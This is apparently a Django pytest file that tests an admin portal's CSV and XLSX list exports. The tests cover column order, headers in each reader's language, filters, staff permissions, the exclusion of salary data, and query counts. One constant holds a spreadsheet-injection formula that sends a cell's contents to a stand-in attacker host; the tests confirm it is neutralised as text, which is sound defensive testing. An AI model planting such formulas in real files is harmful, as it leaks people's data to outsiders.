"""The admin's list exports (portal.exports) of cases, missions, reports, expert profiles and
partnerships: the list's filters, columns in a fixed order, headers and values in the reader's
language, no live formula, no money, who may export, and queries that do not grow with rows."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from import_export.forms import SelectableFieldsExportForm

from experts.exports import ExpertProfileExport
from experts.models import ExpertProfile
from partnerships.exports import PartnershipExport
from partnerships.models import Partnership
from partnerships.resources import PartnershipImportResource
from placements.exports import CaseExport, MissionExport, MissionReportExport
from placements.models import Case, Mission, MissionReport, SalaryAccess, SalaryTopUp
from placements.reporting import plan_reports
from portal.exports import ListExportMixin
from tests.conftest import make_user
from tests.experts.factories import mission_for
from tests.partnerships.factories import CommuneFactory, PartnershipFactory

from .factories import CaseFactory, advance
from .helpers import logged_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'
CSV, XLSX = "0", "1"
EXPORTS = {
    Case: CaseExport,
    Mission: MissionExport,
    MissionReport: MissionReportExport,
    ExpertProfile: ExpertProfileExport,
    Partnership: PartnershipExport,
}


def export_response(user, model, *, query="", file_format=CSV, resource=None, columns=None):
    """POST the export page of ``model``'s admin list (``query``: the list's filters) as
    ``user``, with every column ticked, as the page has them by default."""
    resource = resource or EXPORTS[model]
    model_admin = admin.site._registry[model]
    resources = list(model_admin.get_export_resource_classes(None))
    names = columns or resource().get_export_order()
    data = {"format": file_format, "resource": str(resources.index(resource))}
    data |= {SelectableFieldsExportForm.create_boolean_field_name(resource, n): "on" for n in names}
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export") + query
    return logged_in(user).post(url, data)


def export(user, model, **kwargs):
    """The rows of the exported file, headers first."""
    file_format = kwargs.get("file_format", CSV)
    response = export_response(user, model, **kwargs)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment;")
    if file_format == CSV:
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [["" if value is None else value for value in row] for row in sheet.values]


def column(rows, header):
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def cameroon(partnership):
    """A second request, of Bonn and its partner in Cameroon (a country whose name differs in
    English, French and German)."""
    bonn = CommuneFactory(name="Bonn", region="Nordrhein-Westfalen")
    bamenda = CommuneFactory(name="Bamenda", country="CM", region="North-West")
    other = PartnershipFactory(name="Bonn – Bamenda", german_commune=bonn, partner=bamenda)
    case = CaseFactory(partnership=other, title="Water supply in Bamenda")
    case.host_communes.set([bamenda])
    return case


@pytest.fixture
def mission(partnership, alice):
    """Erna's mission for Leipzig and Kpalimé, with its reports planned."""
    profile = ExpertProfile.objects.create(full_name="Erna Expert", nationalities=["DE"])
    mission = mission_for(profile, partnership=partnership, created_by=alice)
    plan_reports(mission, today=date(2025, 1, 1))
    return mission


# --- Columns: a fixed order, headers in the reader's language ------------------------------------


def test_every_export_has_its_columns_in_a_fixed_order(settings):
    headers = {resource: resource().get_export_headers() for resource in EXPORTS.values()}
    assert headers[CaseExport] == [
        "Case",
        "Title",
        "State",
        "Stage",
        "In this state since",
        "Host communes",
        "Host countries",
        "Deployment model",
        "Themes",
        "Case officer",
        "Planned start",
        "Duration in months",
        "Contract party",
        "Contract start",
        "Created",
    ]
    assert headers[MissionExport] == [
        "Case",
        "Title",
        "Expert",
        "State",
        "Deployment model",
        "Host communes",
        "Host countries",
        "Start",
        "Planned end",
        "Actual end",
        "Extended by (months)",
        "Terminated early",
        "Progress report every (months)",
    ]
    assert headers[MissionReportExport] == [
        "Case",
        "Title",
        "Expert",
        "Number",
        "Kind",
        "Period from",
        "Period to",
        "Due",
        "Status",
        "Submitted",
        "Reviewed",
        "Sustainable development goals contributed to",
    ]
    assert headers[ExpertProfileExport] == [
        "Full name",
        "Country of residence",
        "Nationalities",
        "Languages",
        "Areas of expertise",
        "Keywords",
        "Years of experience in municipal administration",
        "Countries worked in",
        "Regions worked in",
        "Available from",
        "Preferred regions",
        "Deployment models I am open to",
        "Proposed by",
        "Last changed",
    ]
    assert headers[PartnershipExport] == [
        "Partnership",
        "German commune or association",
        "Region or state",
        "Partner communes abroad",
        "Partner countries",
        "Status",
        "Partners since (year)",
        "Formal partnership agreement",
        "Date of the agreement",
        "Themes",
        "Previous joint activities",
        "Created",
    ]


def test_every_list_export_of_the_admin_is_one_of_these():
    exporting = {
        model
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ListExportMixin)
    }
    # The communes' admin exports the import format of communes (partnerships.resources).
    assert exporting - {Partnership.german_commune.field.related_model} == set(EXPORTS)


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("en", ["Case", "State", "Host countries", "Submitted", "Cameroon", "yes"]),
        ("fr", ["Dossier", "État", "Pays d'accueil", "Soumise", "Cameroun", "oui"]),
        ("de", ["Vorgang", "Status", "Gastländer", "Eingereicht", "Kamerun", "ja"]),
    ],
)
def test_headers_and_values_come_in_the_readers_language(cameroon, language, expected):
    reader = make_user(f"{language}@example.org", staff=True, mfa=True, language=language)
    reader.is_superuser = True
    reader.save(update_fields=["is_superuser"])
    rows = export(reader, Case, query=f"?id__exact={cameroon.pk}")
    case_header, state_header, countries_header = expected[:3]
    assert rows[0][0] == case_header
    assert column(rows, state_header) == [expected[3]]
    assert column(rows, countries_header) == [expected[4]]
    partnership_rows = export(reader, Partnership, query="?q=Bamenda")
    assert expected[4] in partnership_rows[1] and expected[5] in partnership_rows[1]


def test_dates_are_iso_and_several_values_are_separated_by_semicolons(cameroon, root):
    Case.objects.filter(pk=cameroon.pk).update(planned_start=date(2027, 3, 1))
    leipzig = CommuneFactory(name="Kpalimé", abroad=True)
    cameroon.host_communes.add(leipzig)
    rows = export(root, Case, query=f"?id__exact={cameroon.pk}")
    assert column(rows, "Planned start") == ["2027-03-01"]
    assert column(rows, "Host communes") == ["Bamenda; Kpalimé"]
    assert column(rows, "Host countries") == ["Cameroon; Togo"]
    created = column(rows, "Created")[0]
    assert len(created) == len("2026-12-01 10:00") and created[4] == "-" and created[10] == " "


# --- The list's filters -------------------------------------------------------------------------


def test_an_export_holds_the_rows_of_the_filtered_list_only(case, cameroon, sam):
    advance(cameroon, Case.State.ELIGIBILITY_CHECK, by=sam)
    everything = export(sam, Case)
    assert sorted(column(everything, "Case")) == sorted([str(case.pk), str(cameroon.pk)])

    by_state = export(sam, Case, query="?state__exact=eligibility_check")
    assert column(by_state, "Case") == [str(cameroon.pk)]
    by_country = export(sam, Case, query="?country=CM")
    assert column(by_country, "Title") == ["Water supply in Bamenda"]
    by_search = export(sam, Case, query="?q=Kpalim")
    assert column(by_search, "Title") == ["Waste management in Kpalimé"]
    nobody_s = export(sam, Case, query="?mine=yes")
    assert column(nobody_s, "Case") == []


def test_the_mission_and_report_exports_follow_their_lists_filters(mission, root):
    Mission.objects.filter(pk=mission.pk).update(terminated_early=True)
    assert column(export(root, Mission), "Expert") == ["Erna Expert"]
    assert column(export(root, Mission, query="?terminated_early__exact=0"), "Expert") == []

    reports = export(root, MissionReport)
    assert len(reports) - 1 == mission.reports.count() > 1
    MissionReport.objects.filter(mission=mission, number=1).update(status="accepted")
    accepted = export(root, MissionReport, query="?status__exact=accepted")
    assert column(accepted, "Number") == ["1"]
    assert column(accepted, "Status") == ["Accepted"]
    assert column(accepted, "Expert") == ["Erna Expert"]


def test_the_partnership_list_exports_in_the_readers_language_beside_the_import_format(
    partnership, cameroon, root
):
    rows = export(root, Partnership, query="?q=Bamenda")
    assert column(rows, "Partnership") == ["Bonn – Bamenda"]
    assert column(rows, "Partner countries") == ["Cameroon"]
    assert column(rows, "Formal partnership agreement") == ["yes"]
    again = export(root, Partnership, query="?q=Bamenda", resource=PartnershipImportResource)
    assert again[0][:3] == ["german_commune", "german_region", "german_population"]
    assert column(again, "partner_country") == ["CM"]


# --- No live formula, no money --------------------------------------------------------------------


@pytest.mark.parametrize("file_format", [CSV, XLSX], ids=["csv", "xlsx"])
def test_a_formula_arrives_as_text_in_every_export(case, mission, root, file_format):
    Case.objects.update(objectives=FORMULA)
    case.eoi.__class__.objects.update(title=FORMULA)
    ExpertProfile.objects.update(full_name=FORMULA, consent_to_be_found=True)
    Partnership.objects.update(name=FORMULA)
    for model, header in [
        (Case, "Title"),
        (Mission, "Expert"),
        (MissionReport, "Title"),
        (ExpertProfile, "Full name"),
        (Partnership, "Partnership"),
    ]:
        values = column(export(root, model, file_format=file_format), header)
        assert values and set(values) == {"'" + FORMULA}, model


def test_no_export_carries_salary_data(mission, root, staff):
    SalaryTopUp.objects.create(
        case=mission.case,
        local_salary=Decimal("1234.56"),
        local_currency="XAF",
        top_up=Decimal("987.65"),
    )
    for model in EXPORTS:
        content = export_response(staff["finance"], model).content
        assert b"1234" not in content and b"987" not in content
    assert not SalaryAccess.objects.exists()


# --- Who may export -------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["skew", "giz", "coordinator", "finance", "superuser"])
def test_every_staff_role_exports_the_lists_it_reads(case, mission, staff, role):
    for model in (Case, Mission, MissionReport, Partnership):
        response = export_response(staff[role], model)
        assert response.status_code == 200, (role, model)
        assert response["Content-Disposition"].startswith("attachment;")
        changelist = logged_in(staff[role]).get(
            reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        )
        assert 'class="export_link"' in changelist.content.decode(), (role, model)


@pytest.mark.parametrize("who", ["alice", "erin", "pierre"])
def test_people_who_are_not_staff_export_nothing(case, mission, request, who):
    person = request.getfixturevalue(who)
    for model in EXPORTS:
        response = export_response(person, model)
        assert response.status_code == 302, (who, model)
        assert "Content-Disposition" not in response
    anonymous = logged_in(person)
    anonymous.logout()
    response = anonymous.post(reverse("admin:placements_case_export"), {"format": CSV})
    assert response.status_code == 302


# --- Queries --------------------------------------------------------------------------------------


def queries_of_an_export(user, model):
    with CaptureQueriesContext(connection) as queries:
        export(user, model)
    return len(queries)


def test_an_export_asks_as_many_queries_for_many_rows_as_for_few(partnership, alice, root):
    def add_rows(count):
        for number in range(count):
            bonn = CommuneFactory(name=f"Town {number}")
            partner = CommuneFactory(name=f"Partner {number}", country="CM")
            other = PartnershipFactory(german_commune=bonn, partner=partner)
            case = CaseFactory(partnership=other, title=f"Request {number}")
            case.host_communes.set([partner])
            expert = ExpertProfile.objects.create(
                full_name=f"Expert {number}", nationalities=["DE"], consent_to_be_found=True
            )
            expert.languages.create(language="fr", level="B2")
            mission = mission_for(expert, partnership=partnership, created_by=alice)
            plan_reports(mission, today=date(2025, 1, 1))

    add_rows(1)
    few = {model: queries_of_an_export(root, model) for model in EXPORTS}
    add_rows(6)
    many = {model: queries_of_an_export(root, model) for model in EXPORTS}
    assert many == few
